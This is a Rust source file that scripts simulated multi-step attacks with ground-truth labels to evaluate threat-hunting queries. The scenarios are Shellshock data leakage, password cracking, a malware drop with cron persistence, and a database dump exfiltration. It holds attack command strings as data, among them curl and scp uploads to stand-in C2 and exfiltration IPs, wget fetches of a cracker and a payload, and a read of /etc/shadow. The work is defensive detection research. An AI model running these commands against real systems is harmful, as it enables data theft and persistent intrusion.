@@ -1,0 +1,409 @@
+//! Scripted multi-step attacks with ground-truth labels.
+//!
+//! Two attacks reproduce the paper's demonstration scenarios (§III):
+//! *data leakage after Shellshock penetration* (whose exfiltration chain is
+//! Fig. 2's IOC chain, verbatim) and *password cracking after Shellshock
+//! penetration*. Two further CVE-style cases (malware drop with cron
+//! persistence; database dump exfiltration) widen the evaluation.
+//!
+//! Tagging convention: the *hunted* steps — the events the synthesized
+//! TBQL query is expected to retrieve — are tagged `1..=n`; surrounding
+//! attack context (penetration, process spawning, cleanup) is tagged with
+//! step numbers `>= CONTEXT_STEP_BASE` and is *not* counted as ground
+//! truth for hunting precision/recall.
+
+use super::host::Host;
+
+/// Steps at or above this value are attack context, not hunted behavior.
+pub const CONTEXT_STEP_BASE: u32 = 100;
+
+/// Case name for the Fig. 2 data-leakage attack.
+pub const CASE_DATA_LEAKAGE: &str = "data_leakage";
+/// Case name for the password-cracking attack.
+pub const CASE_PASSWORD_CRACK: &str = "password_crack";
+/// Case name for the malware-drop attack.
+pub const CASE_MALWARE_DROP: &str = "malware_drop";
+/// Case name for the database-exfiltration attack.
+pub const CASE_DB_EXFIL: &str = "db_exfil";
+
+/// The attacker's C2 host (paper Fig. 2: `192.168.29.128`).
+pub const C2_IP: &str = "192.168.29.128";
+/// Source IP the attacker penetrates from.
+pub const ATTACKER_IP: &str = "203.0.113.99";
+/// Dropbox-like cloud-service IP used by the password-cracking attack.
+pub const CLOUD_IP: &str = "162.125.6.2";
+/// Malware distribution host for the malware-drop attack.
+pub const MALWARE_HOST_IP: &str = "203.0.113.66";
+/// Exfiltration destination for the database-dump attack.
+pub const EXFIL_IP: &str = "198.51.100.77";
+
+/// Shellshock penetration context shared by the two paper attacks:
+/// Apache receives the crafted request and a bash shell is spawned.
+/// Returns the attacker-controlled shell pid. All events are tagged as
+/// context for `case`.
+fn shellshock_penetration(host: &mut Host, case: &str) -> super::host::Pid {
+    host.set_tag(case, CONTEXT_STEP_BASE);
+    let httpd = host.spawn_as(1, "/usr/sbin/apache2", "/usr/sbin/apache2 -k start", "www-data");
+    let conn = host.accept(httpd, ATTACKER_IP, 80);
+    // The crafted `() { :; };` CGI request.
+    host.recv(httpd, &conn, 512);
+    host.set_tag(case, CONTEXT_STEP_BASE + 1);
+    let cgi = host.spawn(httpd, "/usr/lib/cgi-bin/status.sh", "status.sh");
+    let shell = host.spawn(cgi, "/bin/bash", "bash -i");
+    host.send(httpd, &conn, 128);
+    shell
+}
+
+/// **Data Leakage After Shellshock Penetration** — the paper's Fig. 2 case.
+///
+/// Hunted steps (matching `evt1`–`evt8` of the synthesized TBQL query):
+///
+/// 1. `/bin/tar` reads `/etc/passwd`
+/// 2. `/bin/tar` writes `/tmp/upload.tar`
+/// 3. `/bin/bzip2` reads `/tmp/upload.tar`
+/// 4. `/bin/bzip2` writes `/tmp/upload.tar.bz2`
+/// 5. `/usr/bin/gpg` reads `/tmp/upload.tar.bz2`
+/// 6. `/usr/bin/gpg` writes `/tmp/upload`
+/// 7. `/usr/bin/curl` reads `/tmp/upload`
+/// 8. `/usr/bin/curl` connects to `192.168.29.128`
+pub fn data_leakage(host: &mut Host) {
+    let case = CASE_DATA_LEAKAGE;
+    let shell = shellshock_penetration(host, case);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 2);
+    let tar = host.spawn(shell, "/bin/tar", "/bin/tar cf /tmp/upload.tar /etc/passwd");
+    host.set_tag(case, 1);
+    host.read(tar, "/etc/passwd", 2_843);
+    host.set_tag(case, 2);
+    host.write(tar, "/tmp/upload.tar", 10_240);
+    host.clear_tag();
+    host.exit(tar);
+    host.advance(2_000_000);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 3);
+    let bzip2 = host.spawn(shell, "/bin/bzip2", "/bin/bzip2 -9 /tmp/upload.tar");
+    host.set_tag(case, 3);
+    host.read(bzip2, "/tmp/upload.tar", 10_240);
+    host.set_tag(case, 4);
+    host.write(bzip2, "/tmp/upload.tar.bz2", 3_120);
+    host.clear_tag();
+    host.exit(bzip2);
+    host.advance(2_000_000);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 4);
+    let gpg = host.spawn(shell, "/usr/bin/gpg", "/usr/bin/gpg -c /tmp/upload.tar.bz2");
+    host.set_tag(case, 5);
+    host.read(gpg, "/tmp/upload.tar.bz2", 3_120);
+    host.set_tag(case, 6);
+    host.write(gpg, "/tmp/upload", 3_200);
+    host.clear_tag();
+    host.exit(gpg);
+    host.advance(2_000_000);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 5);
+    let curl = host.spawn(shell, "/usr/bin/curl", "curl -T /tmp/upload http://c2/drop");
+    host.set_tag(case, 7);
+    host.read(curl, "/tmp/upload", 3_200);
+    host.set_tag(case, 8);
+    let conn = host.connect(curl, C2_IP, 443, "tcp");
+    host.set_tag(case, CONTEXT_STEP_BASE + 6);
+    host.send(curl, &conn, 3_200);
+    host.clear_tag();
+    host.exit(curl);
+    host.exit(shell);
+}
+
+/// **Password Cracking After Shellshock Penetration** — §III bullet 1.
+///
+/// Hunted steps:
+///
+/// 1. `/usr/bin/curl` connects to the cloud service (`162.125.6.2`)
+/// 2. `/usr/bin/curl` writes `/tmp/cloud.jpg` (image with C2 IP in EXIF)
+/// 3. `/usr/bin/wget` connects to the C2 host (`192.168.29.128`)
+/// 4. `/usr/bin/wget` writes `/tmp/cracker`
+/// 5. `/tmp/cracker` reads `/etc/shadow`
+/// 6. `/tmp/cracker` writes `/tmp/passwords.txt`
+pub fn password_crack(host: &mut Host) {
+    let case = CASE_PASSWORD_CRACK;
+    let shell = shellshock_penetration(host, case);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 2);
+    let curl = host.spawn(shell, "/usr/bin/curl", "curl -O https://dropbox/cloud.jpg");
+    host.set_tag(case, 1);
+    let cloud = host.connect(curl, CLOUD_IP, 443, "tcp");
+    host.set_tag(case, CONTEXT_STEP_BASE + 3);
+    host.recv(curl, &cloud, 48_000);
+    host.set_tag(case, 2);
+    host.write(curl, "/tmp/cloud.jpg", 48_000);
+    host.clear_tag();
+    host.exit(curl);
+    host.advance(2_000_000);
+
+    // Extract the C2 address from EXIF metadata (context).
+    host.set_tag(case, CONTEXT_STEP_BASE + 4);
+    let exif = host.spawn(shell, "/usr/bin/exiftool", "exiftool /tmp/cloud.jpg");
+    host.read(exif, "/tmp/cloud.jpg", 48_000);
+    host.exit(exif);
+    host.advance(1_000_000);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 5);
+    let wget = host.spawn(shell, "/usr/bin/wget", "wget http://192.168.29.128/cracker");
+    host.set_tag(case, 3);
+    let c2 = host.connect(wget, C2_IP, 80, "tcp");
+    host.set_tag(case, CONTEXT_STEP_BASE + 6);
+    host.recv(wget, &c2, 220_000);
+    host.set_tag(case, 4);
+    host.write(wget, "/tmp/cracker", 220_000);
+    host.clear_tag();
+    host.exit(wget);
+    host.advance(1_000_000);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 7);
+    host.chmod(shell, "/tmp/cracker");
+    let cracker = host.spawn(shell, "/tmp/cracker", "/tmp/cracker /etc/shadow");
+    host.set_tag(case, 5);
+    host.read(cracker, "/etc/shadow", 1_680);
+    host.set_tag(case, CONTEXT_STEP_BASE + 8);
+    host.read(cracker, "/usr/share/wordlists/rockyou.txt", 139_921_497);
+    host.set_tag(case, 6);
+    host.write(cracker, "/tmp/passwords.txt", 310);
+    host.clear_tag();
+    host.exit(cracker);
+    host.exit(shell);
+}
+
+/// **Malware Drop with Cron Persistence** (additional case).
+///
+/// Hunted steps:
+///
+/// 1. `/usr/bin/wget` connects to the malware host (`203.0.113.66`)
+/// 2. `/usr/bin/wget` writes `/tmp/.hidden/payload`
+/// 3. `/tmp/.hidden/payload` connects back to `203.0.113.66` (beacon)
+/// 4. `/tmp/.hidden/payload` writes `/etc/cron.d/backdoor`
+pub fn malware_drop(host: &mut Host) {
+    let case = CASE_MALWARE_DROP;
+    host.set_tag(case, CONTEXT_STEP_BASE);
+    let sshd = host.spawn(1, "/usr/sbin/sshd", "sshd: root@pts/1");
+    let conn = host.accept(sshd, ATTACKER_IP, 22);
+    host.recv(sshd, &conn, 900);
+    let shell = host.spawn(sshd, "/bin/bash", "-bash");
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 1);
+    let wget = host.spawn(shell, "/usr/bin/wget", "wget http://203.0.113.66/payload");
+    host.set_tag(case, 1);
+    let dl = host.connect(wget, MALWARE_HOST_IP, 80, "tcp");
+    host.set_tag(case, CONTEXT_STEP_BASE + 2);
+    host.recv(wget, &dl, 88_000);
+    host.set_tag(case, 2);
+    host.write(wget, "/tmp/.hidden/payload", 88_000);
+    host.clear_tag();
+    host.exit(wget);
+    host.advance(1_000_000);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 3);
+    host.chmod(shell, "/tmp/.hidden/payload");
+    let payload = host.spawn(shell, "/tmp/.hidden/payload", "/tmp/.hidden/payload -d");
+    host.set_tag(case, 3);
+    let beacon = host.connect(payload, MALWARE_HOST_IP, 4_444, "tcp");
+    host.set_tag(case, CONTEXT_STEP_BASE + 4);
+    host.send(payload, &beacon, 256);
+    host.set_tag(case, 4);
+    host.write(payload, "/etc/cron.d/backdoor", 120);
+    host.clear_tag();
+    host.exit(shell);
+    host.exit(sshd);
+    // The payload daemon stays resident.
+}
+
+/// **Database Dump Exfiltration** (additional case).
+///
+/// Hunted steps:
+///
+/// 1. `/usr/bin/pg_dump` reads the database heap (`/var/lib/pgdata/base/13400/16384`)
+/// 2. `/usr/bin/pg_dump` writes `/tmp/db.sql`
+/// 3. `/bin/gzip` reads `/tmp/db.sql`
+/// 4. `/bin/gzip` writes `/tmp/db.sql.gz`
+/// 5. `/usr/bin/scp` reads `/tmp/db.sql.gz`
+/// 6. `/usr/bin/scp` connects to `198.51.100.77`
+pub fn db_exfil(host: &mut Host) {
+    let case = CASE_DB_EXFIL;
+    host.set_tag(case, CONTEXT_STEP_BASE);
+    let sshd = host.spawn(1, "/usr/sbin/sshd", "sshd: postgres@pts/2");
+    let conn = host.accept(sshd, ATTACKER_IP, 22);
+    host.recv(sshd, &conn, 700);
+    let shell = host.spawn_as(sshd, "/bin/bash", "-bash", "postgres");
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 1);
+    let dump = host.spawn(shell, "/usr/bin/pg_dump", "pg_dump -f /tmp/db.sql app");
+    host.set_tag(case, 1);
+    host.read(dump, "/var/lib/pgdata/base/13400/16384", 4_200_000);
+    host.set_tag(case, 2);
+    host.write(dump, "/tmp/db.sql", 3_900_000);
+    host.clear_tag();
+    host.exit(dump);
+    host.advance(3_000_000);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 2);
+    let gzip = host.spawn(shell, "/bin/gzip", "gzip -9 /tmp/db.sql");
+    host.set_tag(case, 3);
+    host.read(gzip, "/tmp/db.sql", 3_900_000);
+    host.set_tag(case, 4);
+    host.write(gzip, "/tmp/db.sql.gz", 710_000);
+    host.clear_tag();
+    host.exit(gzip);
+    host.advance(2_000_000);
+
+    host.set_tag(case, CONTEXT_STEP_BASE + 3);
+    let scp = host.spawn(shell, "/usr/bin/scp", "scp /tmp/db.sql.gz ops@198.51.100.77:");
+    host.set_tag(case, 5);
+    host.read(scp, "/tmp/db.sql.gz", 710_000);
+    host.set_tag(case, 6);
+    let exfil = host.connect(scp, EXFIL_IP, 22, "tcp");
+    host.set_tag(case, CONTEXT_STEP_BASE + 4);
+    host.send_burst(scp, &exfil, 710_000, 65_536);
+    host.clear_tag();
+    host.exit(scp);
+    host.exit(shell);
+    host.exit(sshd);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::event::Operation;
+    use crate::parser::{ParsedLog, Parser};
+    use crate::rawlog::encode_lines;
+
+    fn run(attack: fn(&mut Host)) -> ParsedLog {
+        let mut h = Host::new(42);
+        attack(&mut h);
+        Parser::new()
+            .parse_document(&encode_lines(&h.into_records()))
+            .unwrap()
+    }
+
+    fn hunted_steps(log: &ParsedLog, case: &str) -> Vec<u32> {
+        let mut steps: Vec<u32> = log
+            .events
+            .iter()
+            .filter_map(|e| e.tag.as_ref())
+            .filter(|t| t.case == case && t.step < CONTEXT_STEP_BASE)
+            .map(|t| t.step)
+            .collect();
+        steps.sort_unstable();
+        steps
+    }
+
+    #[test]
+    fn data_leakage_has_exactly_fig2_chain() {
+        let log = run(data_leakage);
+        assert_eq!(hunted_steps(&log, CASE_DATA_LEAKAGE), vec![1, 2, 3, 4, 5, 6, 7, 8]);
+
+        // Spot-check step 1 and step 8 against Fig. 2.
+        let step1 = log
+            .events
+            .iter()
+            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 1))
+            .unwrap();
+        assert_eq!(step1.op, Operation::Read);
+        assert_eq!(
+            log.entity(step1.subject).as_process().unwrap().exename,
+            "/bin/tar"
+        );
+        assert_eq!(log.entity(step1.object).as_file().unwrap().name, "/etc/passwd");
+
+        let step8 = log
+            .events
+            .iter()
+            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 8))
+            .unwrap();
+        assert_eq!(step8.op, Operation::Connect);
+        assert_eq!(
+            log.entity(step8.object).as_network().unwrap().dst_ip,
+            C2_IP
+        );
+    }
+
+    #[test]
+    fn data_leakage_steps_are_temporally_ordered() {
+        let log = run(data_leakage);
+        let mut by_step: Vec<(u32, u64)> = log
+            .events
+            .iter()
+            .filter_map(|e| e.tag.as_ref().map(|t| (t.step, e.start)))
+            .filter(|(s, _)| *s < CONTEXT_STEP_BASE)
+            .collect();
+        by_step.sort_unstable();
+        for w in by_step.windows(2) {
+            assert!(
+                w[0].1 < w[1].1,
+                "step {} must precede step {}",
+                w[0].0,
+                w[1].0
+            );
+        }
+    }
+
+    #[test]
+    fn password_crack_chain() {
+        let log = run(password_crack);
+        assert_eq!(hunted_steps(&log, CASE_PASSWORD_CRACK), vec![1, 2, 3, 4, 5, 6]);
+        // The cracker binary runs as a process whose exename is the dropped file.
+        let cracker = log
+            .entities
+            .iter()
+            .filter_map(|e| e.as_process())
+            .find(|p| p.exename == "/tmp/cracker")
+            .expect("cracker process");
+        assert_eq!(cracker.owner, "www-data");
+        // /etc/shadow read is hunted step 5.
+        let step5 = log
+            .events
+            .iter()
+            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 5))
+            .unwrap();
+        assert_eq!(log.entity(step5.object).as_file().unwrap().name, "/etc/shadow");
+    }
+
+    #[test]
+    fn malware_drop_chain() {
+        let log = run(malware_drop);
+        assert_eq!(hunted_steps(&log, CASE_MALWARE_DROP), vec![1, 2, 3, 4]);
+        let step4 = log
+            .events
+            .iter()
+            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 4))
+            .unwrap();
+        assert_eq!(
+            log.entity(step4.object).as_file().unwrap().name,
+            "/etc/cron.d/backdoor"
+        );
+    }
+
+    #[test]
+    fn db_exfil_chain() {
+        let log = run(db_exfil);
+        assert_eq!(hunted_steps(&log, CASE_DB_EXFIL), vec![1, 2, 3, 4, 5, 6]);
+        let step6 = log
+            .events
+            .iter()
+            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 6))
+            .unwrap();
+        assert_eq!(log.entity(step6.object).as_network().unwrap().dst_ip, EXFIL_IP);
+    }
+
+    #[test]
+    fn context_events_exist_but_are_marked() {
+        let log = run(data_leakage);
+        let context = log
+            .events
+            .iter()
+            .filter(|e| {
+                e.tag
+                    .as_ref()
+                    .is_some_and(|t| t.step >= CONTEXT_STEP_BASE)
+            })
+            .count();
+        assert!(context > 0, "penetration context must be tagged as context");
+    }
+}
